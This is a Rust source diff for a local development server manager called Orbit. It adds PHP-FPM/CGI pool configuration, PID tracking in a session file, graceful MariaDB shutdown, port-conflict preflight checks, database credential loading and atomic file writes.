+#[cfg(not(target_os = "windows"))]
+fn listening_pids(port: u16) -> Vec<u32> {
+    let mut pids: Vec<u32> = match Command::new("lsof").args(["-ti", &format!("tcp:{}", port), "-sTCP:LISTEN"]).output() {
+        Ok(output) => String::from_utf8_lossy(&output.stdout).split_whitespace().filter_map(|p| p.parse().ok()).collect(),
+        // No lsof (minimal Linux installs): ss reports the owner as users:(("name",pid=123,fd=4))
+        Err(_) => Command::new("ss")
+            .args(["-ltnpH", &format!("sport = :{}", port)])
+            .output()
+            .map(|output| parse_ss_pids(&String::from_utf8_lossy(&output.stdout)))
+            .unwrap_or_default(),
+    };
+    pids.sort_unstable();
+    pids.dedup();
+    pids
+}
+
+/// PIDs from `netstat -ano` rows listening on `port`
+#[cfg(target_os = "windows")]
+fn parse_netstat_listeners(output: &str, port: u16) -> Vec<u32> {
+    let suffix = format!(":{}", port);
+    output.lines().filter_map(|line| {
+        let cols: Vec<&str> = line.split_whitespace().collect();
+        match cols.as_slice() {
+            [_, local, _, "LISTENING", pid] if local.ends_with(&suffix) => pid.parse().ok(),
+            _ => None,
+        }
+    }).collect()
+}
+
+/// PIDs from the `users:((...,pid=N,...))` column of `ss -p`
+#[cfg(not(target_os = "windows"))]
+fn parse_ss_pids(output: &str) -> Vec<u32> {
+    output
+        .split("pid=")
+        .skip(1)
+        .filter_map(|rest| rest.split(|c: char| !c.is_ascii_digit()).next()?.parse().ok())
+        .collect()
+}
+
+/// Whether `image` (e.g. "mysqld" or "nginx.exe") is one of the service's executables.
+fn is_service_image(service_name: &str, image: &str) -> bool {
+    let image = image.to_lowercase();
+    let stem = image.trim_end_matches(".exe");
+    get_process_image_names(service_name)
+        .iter()
+        .any(|known| known.trim_end_matches(".exe") == stem)
+}
+
+/// Refuse to spawn a service whose port is held by an unrelated process; the
+/// new process would exit immediately. A port held by the service's own
+/// executable (already running) passes.
+fn check_start_preconditions(service: &ServiceInfo) -> Result<(), String> {
+    let Some(port) = get_service_port(&service.name) else { return Ok(()) };
+    if !is_port_in_use(port) {
+        return Ok(());
+    }
+    match port_owner(port) {
+        Some((_, image)) if is_service_image(&service.name, &image) => Ok(()),
+        Some((pid, image)) => Err(format!(
+            "Port {} needed by {} is in use by {} (PID {})", port, service.name, image, pid
+        )),
+        // No lsof/netstat access: the port is busy all the same
+        None => Err(format!(
+            "Port {} needed by {} is busy, and the process holding it could not be identified", port, service.name
+        )),
+    }
+}
+
+/// Most workers a PHP pool may ask for
+const PHP_POOL_MAX_CHILDREN: u32 = 64;
+
+/// How a PHP version is served, from config/php-pools.json: keyed by version,
+/// with "default" for the rest, e.g.
+/// `{ "default": { "children": 8 }, "8.4": { "mode": "fpm" } }`.
+/// Same format as the app's services/php_pool.rs.
+#[derive(Debug, Clone, PartialEq, Deserialize)]
+#[serde(default)]
+struct PhpPool {
+    /// "cgi": php-cgi forking `children` workers on the one port (Unix only;
+    /// php-cgi on Windows can't fork and serves one request at a time).
+    /// "fpm": php-fpm with a static pool, when the version ships it; else cgi.
+    mode: String,
+    children: u32,
+    /// Requests a worker serves before it is replaced
+    max_requests: u32,
+}
+
+impl Default for PhpPool {
+    fn default() -> Self {
+        PhpPool { mode: "cgi".to_string(), children: 4, max_requests: 1000 }
+    }
+}
+
+fn php_pool(config_dir: &std::path::Path, version: &str) -> PhpPool {
+    let pools: serde_json::Map<String, serde_json::Value> = fs::read_to_string(config_dir.join("php-pools.json"))
+        .ok()
+        .and_then(|content| serde_json::from_str(&content).ok())
+        .unwrap_or_default();
+    let mut pool: PhpPool = pools.get(version)
+        .or_else(|| pools.get("default"))
+        .and_then(|entry| serde_json::from_value(entry.clone()).ok())
+        .unwrap_or_default();
+    pool.children = pool.children.clamp(1, PHP_POOL_MAX_CHILDREN);
+    pool.max_requests = pool.max_requests.max(1);
+    pool
+}
+
+/// php-fpm shipped with the PHP whose php-cgi is `php_cgi`: alongside it, or
+/// in the sbin/ of a bin/ + sbin/ layout
+fn find_php_fpm(php_cgi: &std::path::Path) -> Option<PathBuf> {
+    let dir = php_cgi.parent()?;
+    let name = exe_name("php-fpm");
+    let mut candidates = vec![dir.join(&name), dir.join("sbin").join(&name)];
+    if let Some(root) = dir.parent() {
+        candidates.push(root.join("sbin").join(&name));
+    }
+    candidates.into_iter().find(|path| path.is_file())
+}
+
+fn php_fpm_config(pool: &PhpPool, port: u16, php_dir: &std::path::Path) -> String {
+    format!(
+        "; Generated by Orbit from config/php-pools.json; edits are overwritten\n\
+         [global]\n\
+         pid = {}\n\
+         error_log = {}\n\
+         daemonize = no\n\
+         \n\
+         [orbit]\n\
+         listen = 127.0.0.1:{}\n\
+         pm = static\n\
+         pm.max_children = {}\n\
+         pm.max_requests = {}\n\
+         catch_workers_output = yes\n\
+         clear_env = no\n",
+        php_dir.join("orbit-fpm.pid").display(),
+        php_dir.join("logs").join("php-fpm.log").display(),
+        port,
+        pool.children,
+        pool.max_requests,
+    )
+}
+
+/// How to start PHP for a pool
+struct PhpLaunch {
+    exe: PathBuf,
+    args: Vec<String>,
+    env: Vec<(&'static str, String)>,
+    /// Set when fpm mode had to fall back to php-cgi
+    warning: Option<String>,
+}
+
+/// Environment php-cgi reads to fork its workers. php-cgi can't fork on
+/// Windows, so there it only gets the request limit.
+fn php_cgi_env(pool: &PhpPool) -> Vec<(&'static str, String)> {
+    let mut env = vec![("PHP_FCGI_MAX_REQUESTS", pool.max_requests.to_string())];
+    if cfg!(not(target_os = "windows")) {
+        env.push(("PHP_FCGI_CHILDREN", pool.children.to_string()));
+    }
+    env
+}
+
+/// How to serve the PHP whose php-cgi is `php_cgi` on `port`. fpm mode
+/// writes orbit-fpm.conf next to php-cgi, which sizes the pool instead of
+/// the PHP_FCGI_* environment.
+fn php_launch(pool: &PhpPool, php_cgi: &std::path::Path, port: u16) -> PhpLaunch {
+    let cgi = |warning: Option<String>| PhpLaunch {
+        exe: php_cgi.to_path_buf(),
+        args: vec!["-b".to_string(), format!("127.0.0.1:{}", port)],
+        env: php_cgi_env(pool),
+        warning,
+    };
+    if pool.mode != "fpm" {
+        return cgi(None);
+    }
+    let (Some(fpm), Some(php_dir)) = (find_php_fpm(php_cgi), php_cgi.parent()) else {
+        return cgi(Some(format!("php-fpm not found next to {}; using php-cgi", php_cgi.display())));
+    };
+
+    let config_path = php_dir.join("orbit-fpm.conf");
+    let _ = fs::create_dir_all(php_dir.join("logs"));
+    if let Err(e) = fs::write(&config_path, php_fpm_config(pool, port, php_dir)) {
+        return cgi(Some(format!("Failed to write {}: {}; using php-cgi", config_path.display(), e)));
+    }
+    PhpLaunch {
+        exe: fpm,
+        args: vec![
+            "--nodaemonize".to_string(),
+            "--fpm-config".to_string(),
+            config_path.display().to_string(),
+            "-c".to_string(),
+            php_dir.display().to_string(),
+        ],
+        env: vec![],
+        warning: None,
+    }
+}
+
 fn start_service_process(service: &ServiceInfo) -> Result<u32, String> {
     let exe_path = PathBuf::from(&service.path);
     let bin_dir = get_bin_dir();
 
+    let mut env: Vec<(&'static str, String)> = Vec::new();
     let (exe, args) = match service.service_type.as_str() {
         "nginx" => {
             let nginx_dir = bin_dir.join("nginx");
@@ -503,7 +1248,13 @@ fn start_service_process(service: &ServiceInfo) -> Result<u32, String> {
         }
         "php" => {
             let port = get_service_port(&service.name).unwrap_or(9084);
-            (exe_path.clone(), vec!["-b".to_string(), format!("127.0.0.1:{}", port)])
+            let version = service.name.strip_prefix("php-").unwrap_or(&service.version);
+            let launch = php_launch(&php_pool(&get_config_dir(), version), &exe_path, port);
+            if let Some(warning) = &launch.warning {
+                eprintln!("[orbit-mcp] {}", warning);
+            }
+            env = launch.env;
+            (launch.exe, launch.args)
         }
         "mariadb" => {
             let data_dir = bin_dir.join("data").join("mariadb");
@@ -563,6 +1314,7 @@ fn start_service_process(service: &ServiceInfo) -> Result<u32, String> {
     for arg in &args {
         cmd.arg(arg);
     }
+    cmd.envs(env);
 
     // Set working directory to exe's parent (needed for Redis relative config path)
     if let Some(parent) = exe.parent() {
@@ -570,87 +1322,514 @@ fn start_service_process(service: &ServiceInfo) -> Result<u32, String> {
     }
 
     match cmd.spawn() {
-        Ok(child) => Ok(child.id()),
+        Ok(child) => {
+            record_session_entry(&service.name, child.id());
+            Ok(child.id())
+        }
         Err(e) => Err(format!("Failed to start {}: {}", service.name, e)),
     }
 }
 
-fn stop_service_process(name: &str) -> Result<(), String> {
-    let image_names = get_process_image_names(name);
+/// What `stop_service_process` did. `method` is "pid" (the process Orbit
+/// recorded in config/session.json), "graceful" (MariaDB shutdown), "image"
+/// (matched by executable name) or "already_stopped".
+#[derive(Serialize)]
+struct StopOutcome {
+    stopped: bool,
+    was_running: bool,
+    method: &'static str,
+}
 
-    if image_names.is_empty() {
-        return Err(format!("Don't know how to stop: {}", name));
+impl StopOutcome {
+    fn by(method: &'static str) -> Self {
+        StopOutcome { stopped: true, was_running: true, method }
     }
+}
 
-    let mut any_killed = false;
-    for process_name in &image_names {
-        let mut cmd = Command::new("taskkill");
-        cmd.args(["/F", "/IM", process_name]);
-
-        #[cfg(target_os = "windows")]
-        {
-            use std::os::windows::process::CommandExt;
-            const CREATE_NO_WINDOW: u32 = 0x08000000;
-            cmd.creation_flags(CREATE_NO_WINDOW);
-        }
+fn read_session_entries() -> Vec<Value> {
+    fs::read_to_string(get_config_dir().join("session.json"))
+        .ok()
+        .and_then(|content| serde_json::from_str(&content).ok())
+        .unwrap_or_default()
+}
 
-        if let Ok(output) = cmd.output() {
-            if output.status.success() {
-                any_killed = true;
-            }
-        }
+fn write_session_entries(entries: &[Value]) {
+    let path = get_config_dir().join("session.json");
+    if let Some(dir) = path.parent() {
+        let _ = fs::create_dir_all(dir);
     }
+    let _ = fs::write(path, serde_json::to_string_pretty(entries).unwrap());
+}
 
-    if any_killed {
-        Ok(())
-    } else {
-        if let Some(port) = get_service_port(name) {
-            if !is_port_in_use(port) {
-                return Ok(());
-            }
-        }
-        Err(format!("Could not stop {}", name))
-    }
+/// The service's entry in config/session.json, whether or not it's still alive.
+fn session_entry(name: &str) -> Option<Value> {
+    read_session_entries().into_iter().find(|e| e["service"].as_str() == Some(name))
 }
 
-// ─── MariaDB Client Discovery ───────────────────────────────────
+/// Record a started service in config/session.json, in the format the GUI
+/// writes, so either side can recognise (or miss) the process later.
+fn record_session_entry(name: &str, pid: u32) {
+    let mut sys = sysinfo::System::new();
+    let sys_pid = sysinfo::Pid::from_u32(pid);
+    sys.refresh_processes(sysinfo::ProcessesToUpdate::Some(&[sys_pid]), true);
+    let Some(process) = sys.process(sys_pid) else { return };
 
-fn find_mariadb_client(bin_dir: &PathBuf) -> Result<PathBuf, String> {
-    let mariadb_root = bin_dir.join("mariadb");
-    let paths = [
-        mariadb_root.join("mariadb.exe"),
-        mariadb_root.join("mysql.exe"),
-        mariadb_root.join("bin").join("mariadb.exe"),
-        mariadb_root.join("bin").join("mysql.exe"),
-    ];
-    for path in paths {
-        if path.exists() {
-            return Ok(path);
-        }
-    }
-    Err("MariaDB client not found".to_string())
+    let mut entries = read_session_entries();
+    entries.retain(|e| e["service"].as_str() != Some(name));
+    entries.push(json!({
+        "service": name,
+        "pid": pid,
+        "exe": process.exe().map(|p| p.to_string_lossy().to_string()).unwrap_or_default(),
+        "started_at": process.start_time()
+    }));
+    write_session_entries(&entries);
 }
 
-fn find_psql_client(bin_dir: &PathBuf) -> Result<PathBuf, String> {
-    let pg_root = bin_dir.join("postgresql");
-    let paths = [
-        pg_root.join("bin").join("psql.exe"),
-        pg_root.join("pgsql").join("bin").join("psql.exe"),
-    ];
-    for path in paths {
-        if path.exists() {
-            return Ok(path);
-        }
+fn forget_session_entry(name: &str) {
+    let mut entries = read_session_entries();
+    let before = entries.len();
+    entries.retain(|e| e["service"].as_str() != Some(name));
+    if entries.len() != before {
+        write_session_entries(&entries);
     }
-    Err("PostgreSQL client (psql) not found".to_string())
 }
 
-fn find_redis_cli(bin_dir: &PathBuf) -> Result<PathBuf, String> {
-    let path = bin_dir.join("redis").join("redis-cli.exe");
-    if path.exists() {
-        return Ok(path);
-    }
-    Err("Redis CLI not found".to_string())
+/// PID recorded for the service in the GUI's session file, if that process is
+/// still alive with the same executable and start time (i.e. not a reused PID).
+fn tracked_service_pid(name: &str) -> Option<u32> {
+    let entry = session_entry(name)?;
+    let pid = entry["pid"].as_u64()? as u32;
+
+    let mut sys = sysinfo::System::new();
+    let sys_pid = sysinfo::Pid::from_u32(pid);
+    sys.refresh_processes(sysinfo::ProcessesToUpdate::Some(&[sys_pid]), true);
+    let process = sys.process(sys_pid)?;
+
+    let recorded_exe = entry["exe"].as_str()?;
+    let same_exe = process.exe().is_some_and(|exe| exe == std::path::Path::new(recorded_exe));
+    let same_start = entry["started_at"].as_u64()
+        .is_some_and(|t| process.start_time().abs_diff(t) <= 1);
+    (same_exe && same_start).then_some(pid)
+}
+
+/// Whether `pid` is a live process. Exited children this server never waited
+/// on linger as zombies, which don't count.
+fn pid_alive(pid: u32) -> bool {
+    let mut sys = sysinfo::System::new();
+    let sys_pid = sysinfo::Pid::from_u32(pid);
+    sys.refresh_processes(sysinfo::ProcessesToUpdate::Some(&[sys_pid]), true);
+    sys.process(sys_pid).is_some_and(|p| p.status() != sysinfo::ProcessStatus::Zombie)
+}
+
+/// PIDs of the direct children of `pid`
+#[cfg(not(target_os = "windows"))]
+fn child_pids(pid: u32) -> Vec<u32> {
+    let parent = sysinfo::Pid::from_u32(pid);
+    let mut sys = sysinfo::System::new();
+    sys.refresh_processes(sysinfo::ProcessesToUpdate::All, true);
+    sys.processes().iter()
+        .filter(|(_, process)| process.parent() == Some(parent))
+        .map(|(child, _)| child.as_u32())
+        .collect()
+}
+
+/// Terminate one process tree and wait for it to exit.
+fn kill_pid(pid: u32) -> bool {
+    let alive = || pid_alive(pid);
+
+    #[cfg(target_os = "windows")]
+    let _ = hidden_command("taskkill").args(["/F", "/T", "/PID", &pid.to_string()]).output();
+    // php-cgi and php-fpm workers are children of the started process;
+    // signal them too in case the parent dies before reaping them
+    #[cfg(not(target_os = "windows"))]
+    let children: Vec<String> = child_pids(pid).iter().map(|c| c.to_string()).collect();
+    #[cfg(not(target_os = "windows"))]
+    let _ = Command::new("kill").args(["-TERM", &pid.to_string()]).args(&children).output();
+
+    for _ in 0..25 {
+        if !alive() {
+            return true;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(200));
+    }
+    #[cfg(not(target_os = "windows"))]
+    let _ = Command::new("kill").args(["-KILL", &pid.to_string()]).args(&children).output();
+    std::thread::sleep(std::time::Duration::from_millis(200));
+    !alive()
+}
+
+fn stop_service_process(name: &str) -> Result<StopOutcome, String> {
+    let outcome = terminate_service(name)?;
+    // Stopped on purpose: don't report it as crashed later
+    forget_session_entry(name);
+    Ok(outcome)
+}
+
+fn terminate_service(name: &str) -> Result<StopOutcome, String> {
+    let image_names = get_process_image_names(name);
+
+    if image_names.is_empty() {
+        return Err(format!("Don't know how to stop: {}", name));
+    }
+
+    let tracked_pid = tracked_service_pid(name);
+    if tracked_pid.is_none() && !is_service_running(name) {
+        return Ok(StopOutcome { stopped: false, was_running: false, method: "already_stopped" });
+    }
+
+    // Let InnoDB flush and close cleanly before resorting to a kill
+    if name == "mariadb" && is_service_running(name) && stop_mariadb_graceful(&get_bin_dir()) {
+        return Ok(StopOutcome::by("graceful"));
+    }
+
+    // Prefer the exact process Orbit started; killing by image name could hit
+    // a foreign process using the same executable
+    if let Some(pid) = tracked_pid {
+        if kill_pid(pid) {
+            return Ok(StopOutcome::by("pid"));
+        }
+    }
+
+    if kill_service_processes(name, &image_names) {
+        return Ok(StopOutcome::by("image"));
+    }
+    if let Some(port) = get_service_port(name) {
+        if !is_port_in_use(port) {
+            return Ok(StopOutcome::by("image"));
+        }
+    }
+    Err(format!("Could not stop {}", name))
+}
+
+/// How long `stop_mariadb_graceful` waits for a clean shutdown before force-killing.
+const MARIADB_SHUTDOWN_TIMEOUT: std::time::Duration = std::time::Duration::from_secs(10);
+
+/// Ask MariaDB to shut down via `mariadb-admin shutdown` and wait for port 3306
+/// to close. Returns false when the caller should fall back to killing it.
+fn stop_mariadb_graceful(bin_dir: &std::path::Path) -> bool {
+    let admin = match find_mariadb_admin(bin_dir) {
+        Ok(admin) => admin,
+        Err(e) => {
+            eprintln!("[orbit-mcp] {}; force-stopping MariaDB", e);
+            return false;
+        }
+    };
+
+    let deadline = std::time::Instant::now() + MARIADB_SHUTDOWN_TIMEOUT;
+    let result = run_with_timeout(
+        hidden_command(&admin)
+            .arg("--host=127.0.0.1").arg("--port=3306")
+            .args(db_credentials().mariadb_auth_args())
+            .arg("shutdown"),
+        MARIADB_SHUTDOWN_TIMEOUT,
+    ).map(CommandResult::from);
+    match result {
+        Ok(out) if out.success() => {}
+        Ok(out) => {
+            eprintln!("[orbit-mcp] mariadb-admin shutdown failed: {}; force-stopping MariaDB", out.error_detail());
+            return false;
+        }
+        Err(e) => {
+            eprintln!("[orbit-mcp] mariadb-admin shutdown failed: {}; force-stopping MariaDB", e);
+            return false;
+        }
+    }
+
+    // mariadb-admin returns once shutdown starts; wait for the server to exit
+    while std::time::Instant::now() < deadline {
+        if !is_port_in_use(3306) {
+            eprintln!("[orbit-mcp] MariaDB shut down cleanly via mariadb-admin");
+            return true;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(200));
+    }
+    eprintln!("[orbit-mcp] MariaDB still running after {:?}; force-stopping", MARIADB_SHUTDOWN_TIMEOUT);
+    false
+}
+
+#[cfg(target_os = "windows")]
+fn kill_service_processes(_name: &str, image_names: &[&str]) -> bool {
+    use std::os::windows::process::CommandExt;
+    const CREATE_NO_WINDOW: u32 = 0x08000000;
+
+    let mut any_killed = false;
+    for process_name in image_names {
+        let mut cmd = Command::new("taskkill");
+        cmd.args(["/F", "/IM", process_name]);
+        cmd.creation_flags(CREATE_NO_WINDOW);
+
+        if let Ok(output) = cmd.output() {
+            if output.status.success() {
+                any_killed = true;
+            }
+        }
+    }
+    any_killed
+}
+
+/// Find the PIDs listening on the service's port (lsof), falling back to
+/// Orbit-installed binaries by command line (pgrep), then SIGTERM them and
+/// SIGKILL whatever is still alive after a grace period.
+#[cfg(not(target_os = "windows"))]
+fn kill_service_processes(name: &str, image_names: &[&str]) -> bool {
+    fn parse_pids(output: std::io::Result<std::process::Output>) -> Vec<String> {
+        output
+            .map(|o| {
+                String::from_utf8_lossy(&o.stdout)
+                    .split_whitespace()
+                    .filter(|p| p.chars().all(|c| c.is_ascii_digit()))
+                    .map(|p| p.to_string())
+                    .collect()
+            })
+            .unwrap_or_default()
+    }
+
+    let mut pids = Vec::new();
+    if let Some(port) = get_service_port(name) {
+        pids = parse_pids(
+            Command::new("lsof")
+                .args(["-ti", &format!("tcp:{}", port), "-sTCP:LISTEN"])
+                .output(),
+        );
+    }
+    if pids.is_empty() {
+        let bin_dir = get_bin_dir();
+        for image in image_names {
+            let pattern = format!("{}.*/{}", bin_dir.display(), image.trim_end_matches(".exe"));
+            pids.extend(parse_pids(Command::new("pgrep").args(["-f", &pattern]).output()));
+        }
+    }
+    pids.sort();
+    pids.dedup();
+    if pids.is_empty() {
+        return false;
+    }
+
+    let _ = Command::new("kill").arg("-TERM").args(&pids).output();
+
+    let alive = |pid: &String| {
+        Command::new("kill")
+            .args(["-0", pid])
+            .output()
+            .map(|o| o.status.success())
+            .unwrap_or(false)
+    };
+    for _ in 0..25 {
+        if !pids.iter().any(alive) {
+            return true;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(200));
+    }
+
+    let remaining: Vec<&String> = pids.iter().filter(|p| alive(p)).collect();
+    if !remaining.is_empty() {
+        let _ = Command::new("kill").arg("-KILL").args(&remaining).output();
+    }
+    true
+}
+
+// ─── Preflight (shared with cli.rs) ─────────────────────────────
+
+/// Problems that would stop `svc` from starting, found without starting it:
+/// missing binary, port held by another process, failing config test or an
+/// uninitialized data directory. Empty when the service looks ready.
+fn preflight_check(svc: &ServiceInfo, bin_dir: &std::path::Path) -> Vec<String> {
+    let mut problems = Vec::new();
+
+    if !std::path::Path::new(&svc.path).exists() {
+        problems.push(format!("executable not found: {}", svc.path));
+    }
+
+    if let Some(port) = service_port_in(&svc.name, bin_dir) {
+        if is_port_in_use(port) {
+            problems.push(format!("port {} is already in use by another process", port));
+        }
+    }
+
+    let config_test = match svc.service_type.as_str() {
+        "nginx" => nginx_config_test(bin_dir),
+        "apache" => apache_config_test(bin_dir),
+        _ => Ok(()),
+    };
+    if let Err(e) = config_test {
+        problems.push(e);
+    }
+
+    let data_dir = bin_dir.join("data");
+    match svc.service_type.as_str() {
+        "mariadb" if !data_dir.join("mariadb").join("mysql").is_dir() => {
+            problems.push(format!("MariaDB data directory is not initialized: {}", data_dir.join("mariadb").display()));
+        }
+        "postgresql" if !data_dir.join("postgres").join("PG_VERSION").exists() => {
+            problems.push(format!("PostgreSQL data directory is not initialized (run initdb): {}", data_dir.join("postgres").display()));
+        }
+        _ => {}
+    }
+
+    problems
+}
+
+/// Services in `ports` that would bind a port an earlier one already claims,
+/// with the problem to report for each
+fn port_clashes<'a>(ports: &[(&'a str, Option<u16>)]) -> Vec<(&'a str, String)> {
+    let mut claimed: Vec<(u16, &str)> = Vec::new();
+    let mut clashes = Vec::new();
+    for &(name, port) in ports {
+        let Some(port) = port else { continue };
+        match claimed.iter().find(|(p, _)| *p == port) {
+            Some((_, other)) => clashes.push((name, format!("port {} is also used by {}", port, other))),
+            None => claimed.push((port, name)),
+        }
+    }
+    clashes
+}
+
+/// Preflight every stopped service in `targets`, including two services that
+/// would both bind the same port. Returns (service name, problems) for each failure.
+fn preflight_all(targets: &[&ServiceInfo], bin_dir: &std::path::Path) -> Vec<(String, Vec<String>)> {
+    let stopped: Vec<&ServiceInfo> = targets.iter().copied().filter(|s| !is_service_running(&s.name)).collect();
+    let ports: Vec<(&str, Option<u16>)> = stopped.iter().map(|s| (s.name.as_str(), service_port_in(&s.name, bin_dir))).collect();
+    let clashes = port_clashes(&ports);
+    let mut failures = Vec::new();
+
+    for svc in stopped {
+        let mut problems = preflight_check(svc, bin_dir);
+        problems.extend(clashes.iter().filter(|(name, _)| *name == svc.name).map(|(_, problem)| problem.clone()));
+        if !problems.is_empty() {
+            failures.push((svc.name.clone(), problems));
+        }
+    }
+
+    failures
+}
+
+// ─── Database Config (config/db.json) ───────────────────────────
+
+/// Optional database connection settings. Every field may be omitted;
+/// missing values fall back to Orbit's local defaults.
+#[derive(Deserialize, Default)]
+#[serde(default)]
+struct DbConfig {
+    mariadb_user: Option<String>,
+    mariadb_password: Option<String>,
+    pg_user: Option<String>,
+    pg_password: Option<String>,
+    mongo_uri: Option<String>,
+    mongo_user: Option<String>,
+    mongo_password: Option<String>,
+    mongo_auth_db: Option<String>,
+}
+
+fn db_config_path() -> PathBuf {
+    get_config_dir().join("db.json")
+}
+
+fn read_db_config() -> DbConfig {
+    read_db_config_at(&db_config_path())
+}
+
+fn read_db_config_at(path: &std::path::Path) -> DbConfig {
+    fs::read_to_string(path)
+        .ok()
+        .and_then(|content| serde_json::from_str(&content).ok())
+        .unwrap_or_default()
+}
+
+/// Database login used by the MariaDB and PostgreSQL tools.
+struct DbCredentials {
+    mariadb_user: String,
+    mariadb_password: String,
+    pg_user: String,
+    pg_password: String,
+}
+
+impl DbCredentials {
+    /// `-u <user> -p<password>` for mysql/mysqldump. `-p` is omitted for an
+    /// empty password so the client doesn't stop to prompt for one.
+    fn mariadb_auth_args(&self) -> Vec<String> {
+        let mut args = vec!["-u".to_string(), self.mariadb_user.clone()];
+        if !self.mariadb_password.is_empty() {
+            args.push(format!("-p{}", self.mariadb_password));
+        }
+        args
+    }
+}
+
+/// Credentials from config/db.json, falling back to Orbit's defaults
+/// (root/root for MariaDB, postgres/postgres for PostgreSQL).
+fn db_credentials() -> DbCredentials {
+    credentials_from(read_db_config())
+}
+
+fn credentials_from(config: DbConfig) -> DbCredentials {
+    DbCredentials {
+        mariadb_user: config.mariadb_user.unwrap_or_else(|| "root".to_string()),
+        mariadb_password: config.mariadb_password.unwrap_or_else(|| "root".to_string()),
+        pg_user: config.pg_user.unwrap_or_else(|| "postgres".to_string()),
+        pg_password: config.pg_password.unwrap_or_else(|| "postgres".to_string()),
+    }
+}
+
+/// Percent-encode a URI component (user/password in a connection string).
+fn uri_encode(value: &str) -> String {
+    value
+        .bytes()
+        .map(|b| match b {
+            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => (b as char).to_string(),
+            _ => format!("%{:02X}", b),
+        })
+        .collect()
+}
+
+// ─── MariaDB Client Discovery ───────────────────────────────────
+
+fn find_mariadb_client(bin_dir: &PathBuf) -> Result<PathBuf, String> {
+    let mariadb_root = bin_dir.join("mariadb");
+    let paths = [
+        mariadb_root.join("mariadb.exe"),
+        mariadb_root.join("mysql.exe"),
+        mariadb_root.join("bin").join("mariadb.exe"),
+        mariadb_root.join("bin").join("mysql.exe"),
+    ];
+    for path in paths {
+        if path.exists() {
+            return Ok(path);
+        }
+    }
+    Err("MariaDB client not found".to_string())
+}
+
+fn find_mariadb_admin(bin_dir: &std::path::Path) -> Result<PathBuf, String> {
+    let mariadb_root = bin_dir.join("mariadb");
+    let paths = [
+        mariadb_root.join(exe_name("mariadb-admin")),
+        mariadb_root.join(exe_name("mysqladmin")),
+        mariadb_root.join("bin").join(exe_name("mariadb-admin")),
+        mariadb_root.join("bin").join(exe_name("mysqladmin")),
+    ];
+    paths.into_iter().find(|p| p.exists()).ok_or_else(|| "mariadb-admin not found".to_string())
+}
+
+fn find_psql_client(bin_dir: &PathBuf) -> Result<PathBuf, String> {
+    let pg_root = bin_dir.join("postgresql");
+    let paths = [
+        pg_root.join("bin").join("psql.exe"),
+        pg_root.join("pgsql").join("bin").join("psql.exe"),
+    ];
+    for path in paths {
+        if path.exists() {
+            return Ok(path);
+        }
+    }
+    Err("PostgreSQL client (psql) not found".to_string())
+}
+
+fn find_redis_cli(bin_dir: &PathBuf) -> Result<PathBuf, String> {
+    let path = bin_dir.join("redis").join("redis-cli.exe");
+    if path.exists() {
+        return Ok(path);
+    }
+    Err("Redis CLI not found".to_string())
 }
 
 fn find_php_exe(bin_dir: &PathBuf) -> Result<PathBuf, String> {
@@ -679,14 +1858,14 @@ fn find_composer_phar(bin_dir: &PathBuf) -> Result<PathBuf, String> {
 }
 
 fn find_mkcert(bin_dir: &PathBuf) -> Result<PathBuf, String> {
-    let path = bin_dir.join("mkcert").join("mkcert.exe");
+    let path = bin_dir.join("mkcert").join(exe_name("mkcert"));
     if path.exists() {
         return Ok(path);
     }
     Err("mkcert not found".to_string())
 }
 
-fn find_nginx_exe(bin_dir: &PathBuf) -> Result<PathBuf, String> {
+fn find_nginx_exe(bin_dir: &std::path::Path) -> Result<PathBuf, String> {
     let path = bin_dir.join("nginx").join("nginx.exe");
     if path.exists() {
         return Ok(path);
@@ -694,7 +1873,7 @@ fn find_nginx_exe(bin_dir: &PathBuf) -> Result<PathBuf, String> {
     Err("Nginx not found".to_string())
 }
 
-fn nginx_test_and_reload(bin_dir: &PathBuf) -> Result<(), String> {
+fn nginx_config_test(bin_dir: &std::path::Path) -> Result<(), String> {
     let nginx = find_nginx_exe(bin_dir)?;
     let nginx_dir = nginx.parent().unwrap_or(bin_dir);
     let nginx_conf = nginx_dir.join("conf").join("nginx.conf");
@@ -711,6 +1890,13 @@ fn nginx_test_and_reload(bin_dir: &PathBuf) -> Result<(), String> {
         let stderr = String::from_utf8_lossy(&test_output.stderr);
         return Err(format!("Nginx config test failed: {}", stderr.trim()));
     }
+    Ok(())
+}
+
+fn nginx_test_and_reload(bin_dir: &PathBuf) -> Result<(), String> {
+    nginx_config_test(bin_dir)?;
+    let nginx = find_nginx_exe(bin_dir)?;
+    let nginx_dir = nginx.parent().unwrap_or(bin_dir);
 
     // Reload
     let reload_output = hidden_command(&nginx)
@@ -727,173 +1913,683 @@ fn nginx_test_and_reload(bin_dir: &PathBuf) -> Result<(), String> {
     Ok(())
 }
 
-fn backup_file(path: &PathBuf) -> Result<(), String> {
-    if path.exists() {
-        let bak = path.with_extension(
-            format!("{}.bak",
-                path.extension().map(|e| e.to_string_lossy().to_string()).unwrap_or_default()
-            )
-        );
-        fs::copy(path, &bak)
-            .map_err(|e| format!("Failed to create backup: {}", e))?;
+/// Copy `path` to `<file name>.bak` next to it. Returns the backup path, or
+/// `None` when there was nothing to back up.
+fn backup_file(path: &PathBuf) -> Result<Option<PathBuf>, String> {
+    if !path.exists() {
+        return Ok(None);
+    }
+    let file_name = path.file_name().ok_or("Cannot back up a path without a file name")?;
+    let mut bak_name = file_name.to_os_string();
+    bak_name.push(".bak");
+    let bak = path.with_file_name(bak_name);
+    fs::copy(path, &bak)
+        .map_err(|e| format!("Failed to create backup: {}", e))?;
+    Ok(Some(bak))
+}
+
+/// Write `content` to a temp file next to `path`, then rename it over `path`,
+/// so a crash mid-write leaves either the old file or the new one, never a
+/// truncated one. The temp file is removed if anything fails. Each call gets
+/// its own temp name, and the new file keeps the old one's permissions.
+fn write_atomic(path: &std::path::Path, content: &str) -> io::Result<()> {
+    let file_name = path.file_name()
+        .ok_or_else(|| io::Error::new(io::ErrorKind::InvalidInput, "path has no file name"))?;
+    let mut tmp_name = std::ffi::OsString::from(".");
+    tmp_name.push(file_name);
+    static WRITES: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);
+    let write = WRITES.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
+    tmp_name.push(format!(".orbit-tmp-{}-{}", std::process::id(), write));
+    let tmp = path.with_file_name(tmp_name);
+    let permissions = fs::metadata(path).ok().map(|meta| meta.permissions());
+
+    let result = fs::File::create(&tmp)
